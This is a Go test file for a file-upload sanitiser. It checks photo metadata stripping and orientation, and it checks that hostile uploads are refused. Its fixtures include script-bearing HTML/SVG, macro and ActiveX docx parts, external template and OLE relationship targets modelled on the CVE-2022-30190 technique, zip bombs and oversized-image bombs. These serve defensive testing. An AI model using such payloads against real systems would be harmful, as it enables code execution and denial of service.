package upload_test

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"errors"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"runtime"
	"strings"
	"testing"

	"loa/functions/upload"
	"loa/functions/upload/uploadtest"
)

func phoneJPEG(t *testing.T, w, h int, orientation uint16) []byte {
	t.Helper()
	return uploadtest.PhoneJPEG(w, h, orientation)
}

func near(c color.Color, r, g, b uint8) bool {
	cr, cg, cb, _ := c.RGBA()
	d := func(a uint32, want uint8) bool { x := int(a>>8) - int(want); return x > -40 && x < 40 }
	return d(cr, r) && d(cg, g) && d(cb, b)
}

func TestPhotoLosesMetadataAndStandsUpright(t *testing.T) {
	src := phoneJPEG(t, 64, 32, 6) // stored on its side: the camera was turned
	for _, leak := range uploadtest.Leaks()[:5] {
		if !bytes.Contains(src, leak) {
			t.Fatalf("the test photo lacks %q", leak)
		}
	}
	typ, err := upload.Sniff(src)
	if err != nil || typ.Name != "jpeg" || typ.Ext != "jpg" {
		t.Fatalf("Sniff = %+v, %v", typ, err)
	}
	out, err := upload.Clean(typ, src)
	if err != nil {
		t.Fatal(err)
	}
	for _, leak := range uploadtest.Leaks() {
		if bytes.Contains(out, leak) {
			t.Errorf("the kept photo still holds %q", leak)
		}
	}
	img, err := jpeg.Decode(bytes.NewReader(out))
	if err != nil {
		t.Fatal(err)
	}
	// Orientation 6: turned clockwise to stand. The stored top-left (red)
	// goes to the top-right, the stored top-right (blue) to the bottom-right.
	if b := img.Bounds(); b.Dx() != 32 || b.Dy() != 64 {
		t.Fatalf("upright size %v, want 32×64", b)
	}
	if !near(img.At(29, 2), 255, 0, 0) || !near(img.At(29, 61), 0, 0, 255) || !near(img.At(2, 2), 128, 128, 128) {
		t.Errorf("corners after turning: %v %v %v", img.At(29, 2), img.At(29, 61), img.At(2, 2))
	}
	// The same photo sent twice is kept as the same bytes: a resend is one file.
	again, _ := upload.Clean(typ, src)
	if !bytes.Equal(out, again) {
		t.Error("cleaning the same photo twice gave two files")
	}

	// Upright as stored: the size stays.
	out, err = upload.Clean(typ, phoneJPEG(t, 64, 32, 1))
	if err != nil {
		t.Fatal(err)
	}
	if c, _ := jpeg.DecodeConfig(bytes.NewReader(out)); c.Width != 64 || c.Height != 32 {
		t.Errorf("orientation 1: %d×%d, want 64×32", c.Width, c.Height)
	}
}

// chunk is one PNG chunk.
func chunk(typ string, data []byte) []byte {
	var b bytes.Buffer
	binary.Write(&b, binary.BigEndian, uint32(len(data)))
	b.WriteString(typ)
	b.Write(data)
	binary.Write(&b, binary.BigEndian, crc32.ChecksumIEEE(append([]byte(typ), data...)))
	return b.Bytes()
}

func TestPNGLosesTextAndEXIF(t *testing.T) {
	var enc bytes.Buffer
	if err := png.Encode(&enc, uploadtest.Picture(20, 10)); err != nil {
		t.Fatal(err)
	}
	raw := enc.Bytes()
	// After the signature (8) and IHDR (25): a text chunk and an eXIf chunk.
	var src []byte
	src = append(src, raw[:33]...)
	src = append(src, chunk("tEXt", []byte("Author\x00Nguyen Van An"))...)
	src = append(src, chunk("eXIf", uploadtest.EXIF(1)[6:])...)
	src = append(src, raw[33:]...)
	typ, err := upload.Sniff(src)
	if err != nil || typ.Name != "png" {
		t.Fatalf("Sniff = %+v, %v", typ, err)
	}
	out, err := upload.Clean(typ, src)
	if err != nil {
		t.Fatal(err)
	}
	for _, leak := range []string{"tEXt", "eXIf", "Nguyen", "PhoneCo"} {
		if bytes.Contains(out, []byte(leak)) {
			t.Errorf("the kept PNG still holds %q", leak)
		}
	}
	img, err := png.Decode(bytes.NewReader(out))
	if err != nil || img.Bounds().Dx() != 20 || !near(img.At(0, 0), 255, 0, 0) {
		t.Errorf("pixels not kept: %v %v", err, img)
	}
}

func docx(t *testing.T, contentTypes string, files ...string) []byte {
	t.Helper()
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	w, _ := zw.Create("[Content_Types].xml")
	w.Write([]byte(contentTypes))
	for _, f := range files {
		w, _ := zw.Create(f)
		w.Write([]byte("<w:document/>"))
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

const wordTypes = `<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`

func TestSniffByContent(t *testing.T) {
	var bigPNG bytes.Buffer
	png.Encode(&bigPNG, image.NewGray(image.Rect(0, 0, 1, 1)))
	huge := bigPNG.Bytes()
	huge = append([]byte{}, huge...)
	// IHDR width and height, at 16 and 20: 10,000 × 10,000 is 100 megapixels.
	binary.BigEndian.PutUint32(huge[16:], 10000)
	binary.BigEndian.PutUint32(huge[20:], 10000)
	binary.BigEndian.PutUint32(huge[29:], crc32.ChecksumIEEE(huge[12:29]))

	jpg := phoneJPEG(t, 16, 16, 1)
	for _, tc := range []struct {
		name       string
		data       []byte
		want       string // type name, "" for refused
		err, clean error
	}{
		{"pdf", []byte("%PDF-1.7\n%âãÏÓ\n1 0 obj\n"), "pdf", nil, nil},
		{"docx", docx(t, wordTypes, "word/document.xml"), "docx", nil, nil},
		{"docm", docx(t, replaced(wordTypes, "document.main+xml", "document.macroEnabled.main+xml"), "word/document.xml"), "", upload.ErrType, nil},
		{"zip without a Word body", docx(t, wordTypes, "xl/workbook.xml"), "", upload.ErrType, nil},
		{"damaged zip", []byte("PK\x03\x04 not really"), "", upload.ErrDamaged, nil},
		{"text named .jpg", []byte("Xin chào, đây không phải ảnh."), "", upload.ErrType, nil},
		{"html", []byte("<!DOCTYPE html><script>alert(1)</script>"), "", upload.ErrType, nil},
		{"svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`), "", upload.ErrType, nil},
		{"gif", []byte("GIF89a\x01\x00\x01\x00"), "", upload.ErrType, nil},
		{"truncated jpeg", jpg[:len(jpg)/3], "jpeg", nil, upload.ErrDamaged},
		{"100 megapixels", huge, "png", nil, upload.ErrPixels},
	} {
		typ, err := upload.Sniff(tc.data)
		if !errors.Is(err, tc.err) || err == nil && typ.Name != tc.want {
			t.Errorf("%s: Sniff = %q, %v; want %q, %v", tc.name, typ.Name, err, tc.want, tc.err)
			continue
		}
		if err != nil {
			continue
		}
		out, err := upload.Clean(typ, tc.data)
		if !errors.Is(err, tc.clean) {
			t.Errorf("%s: Clean: %v, want %v", tc.name, err, tc.clean)
		}
		if err == nil && !typ.Image && !bytes.Equal(out, tc.data) {
			t.Errorf("%s: a document is kept as sent", tc.name)
		}
	}
}

func replaced(s, old, new string) string {
	return string(bytes.Replace([]byte(s), []byte(old), []byte(new), 1))
}

// zipOf makes a zip of the given parts, name then content, each deflated.
func zipOf(t *testing.T, parts ...string) []byte {
	t.Helper()
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for i := 0; i+1 < len(parts); i += 2 {
		w, err := zw.Create(parts[i])
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte(parts[i+1]))
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func rels(rs ...string) string {
	return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` +
		`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
		strings.Join(rs, "") + `</Relationships>`
}

const relNS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"

// A .docx the office will open in Word must not make Word run code or
// reach out when it is opened: macros under any name, ActiveX controls,
// OLE objects inside it, a template, frame, picture or OLE object fetched
// from elsewhere (what CVE-2022-30190 used) are refused; a link the reader
// may click is kept, as is a chart's workbook and a document whose parts
// are what Word writes.
func TestDocxThatActsWhenOpenedIsRefused(t *testing.T) {
	body := "<w:document/>"
	plain := []string{"[Content_Types].xml", wordTypes, "word/document.xml", body}
	with := func(parts ...string) []byte { return zipOf(t, append(append([]string{}, plain...), parts...)...) }
	for _, tc := range []struct {
		name string
		data []byte
		err  error
	}{
		{"plain", with(), nil},
		{"link to click", with("word/_rels/document.xml.rels",
			rels(`<Relationship Id="rId1" Type="`+relNS+`hyperlink" Target="https://thanhdoan.gov.vn/" TargetMode="External"/>`,
				`<Relationship Id="rId2" Type="`+relNS+`styles" Target="styles.xml"/>`)), nil},
		{"macros under a .docx content type", with("word/vbaProject.bin", "macro"), upload.ErrType},
		{"macros named in another case", with("Word/VBAProject.bin", "macro"), upload.ErrType},
		{"macro content type in lower case", zipOf(t, "[Content_Types].xml",
			replaced(wordTypes, "document.main+xml", "document.macroenabled.main+xml"), "word/document.xml", body), upload.ErrType},
		{"ActiveX control", with("word/activeX/activeX1.xml", "<ax:ocx/>"), upload.ErrType},
		{"OLE object inside (a packaged program, an old equation)", with("word/embeddings/oleObject1.bin", "\xd0\xcf\x11\xe0"), upload.ErrType},
		{"chart with its workbook inside", with("word/embeddings/Microsoft_Excel_Worksheet.xlsx", "PK"), nil},
		{"template fetched from elsewhere", with("word/_rels/settings.xml.rels",
			rels(`<Relationship Id="rId1" Type="`+relNS+`attachedTemplate" Target="http://203.0.113.7/t.dotm" TargetMode="External"/>`)), upload.ErrType},
		{"OLE object fetched from elsewhere", with("word/_rels/document.xml.rels",
			rels(`<Relationship Id="rId9" Type="`+relNS+`oleObject" Target="mhtml:http://203.0.113.7/x.html!x-usc:http://203.0.113.7/x.html" TargetMode="External"/>`)), upload.ErrType},
		{"picture fetched from elsewhere, mode in another case", with("word/_rels/document.xml.rels",
			rels(`<Relationship Id="rId3" Type="`+relNS+`image" Target="\\203.0.113.7\share\a.png" TargetMode="external"/>`)), upload.ErrType},
		{"frame fetched from elsewhere", with("word/_rels/webSettings.xml.rels",
			rels(`<Relationship Id="rId1" Type="`+relNS+`frame" Target="http://203.0.113.7/" TargetMode="External"/>`)), upload.ErrType},
		{"relationships that are not XML", with("word/_rels/document.xml.rels", "<Relationships><Relationship"), upload.ErrDamaged},
	} {
		_, err := upload.Sniff(tc.data)
		if !errors.Is(err, tc.err) {
			t.Errorf("%s: Sniff: %v, want %v", tc.name, err, tc.err)
		}
	}
}

// A .docx whose parts unpack to far more than any Word document (a zip
// bomb: 8 KB of zip that is 80 MB of zeros) is refused, not handed to the
// office's Word to unpack.
func TestDocxZipBombIsRefused(t *testing.T) {
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for _, p := range [][2]string{{"[Content_Types].xml", wordTypes}, {"word/document.xml", "<w:document/>"}} {
		w, _ := zw.Create(p[0])
		w.Write([]byte(p[1]))
	}
	w, _ := zw.Create("word/media/image1.png")
	zeros := make([]byte, 1<<20)
	for range 80 {
		w.Write(zeros)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	if b.Len() > upload.MaxDocxUnpacked/100 {
		t.Fatalf("the bomb is %d bytes, not small", b.Len())
	}
	if _, err := upload.Sniff(b.Bytes()); !errors.Is(err, upload.ErrDamaged) {
		t.Errorf("Sniff of %d bytes unpacking to 80 MB: %v, want %v", b.Len(), err, upload.ErrDamaged)
	}
}

// A small photo that declares 50,000 × 50,000 pixels (2.5 gigapixels, 10 GB
// once decoded) is refused from its header, in either format, before any
// pixel is decoded.
func TestDecompressionBombIsRefused(t *testing.T) {
	var p bytes.Buffer
	png.Encode(&p, image.NewGray(image.Rect(0, 0, 1, 1)))
	pngBomb := append([]byte{}, p.Bytes()...)
	binary.BigEndian.PutUint32(pngBomb[16:], 50000)
	binary.BigEndian.PutUint32(pngBomb[20:], 50000)
	binary.BigEndian.PutUint32(pngBomb[29:], crc32.ChecksumIEEE(pngBomb[12:29]))

	jpgBomb := append([]byte{}, uploadtest.PhoneJPEG(16, 16, 1)...)
	sof := bytes.Index(jpgBomb, []byte{0xFF, 0xC0})
	if sof < 0 {
		t.Fatal("no baseline frame header in the test photo")
	}
	// SOF0: marker, length (2), precision (1), height (2), width (2).
	binary.BigEndian.PutUint16(jpgBomb[sof+5:], 50000)
	binary.BigEndian.PutUint16(jpgBomb[sof+7:], 50000)

	for name, data := range map[string][]byte{"png": pngBomb, "jpeg": jpgBomb} {
		if len(data) > 4096 {
			t.Fatalf("%s bomb is %d bytes, not small", name, len(data))
		}
		var m0, m1 runtime.MemStats
		runtime.ReadMemStats(&m0)
		typ, err := upload.Sniff(data)
		if err != nil || typ.Name != name {
			t.Fatalf("%s: Sniff = %q, %v", name, typ.Name, err)
		}
		if _, err := upload.Clean(typ, data); !errors.Is(err, upload.ErrPixels) {
			t.Errorf("%s: Clean: %v, want %v", name, err, upload.ErrPixels)
		}
		runtime.ReadMemStats(&m1)
		if grew := m1.TotalAlloc - m0.TotalAlloc; grew > 1<<20 {
			t.Errorf("%s: refusing it allocated %d bytes, want under 1 MB", name, grew)
		}
	}
}

// A photo held sideways is turned without a second full copy of it: what
// Clean allocates, per pixel, stays near the decoded planes (1.5 bytes
// here), the turned picture (4) and the encoder's buffers. Copying the
// picture before turning it, as once done, was 9.5 bytes a pixel: 380 MB
// for the largest photo taken, where the function has 1 GB.
func TestTurningAPhotoCopiesItOnce(t *testing.T) {
	const w, h = 2400, 1600
	data := uploadtest.PhoneJPEG(w, h, 6)
	typ, err := upload.Sniff(data)
	if err != nil {
		t.Fatal(err)
	}
	runtime.GC()
	var m0, m1 runtime.MemStats
	runtime.ReadMemStats(&m0)
	out, err := upload.Clean(typ, data)
	runtime.ReadMemStats(&m1)
	if err != nil {
		t.Fatal(err)
	}
	if c, err := jpeg.DecodeConfig(bytes.NewReader(out)); err != nil || c.Width != h || c.Height != w {
		t.Fatalf("cleaned photo %v, %v", c, err)
	}
	if perPixel := float64(m1.TotalAlloc-m0.TotalAlloc) / (w * h); perPixel > 6.5 {
		t.Errorf("cleaning a turned photo allocated %.2f bytes a pixel, want at most 6.5", perPixel)
	}
}
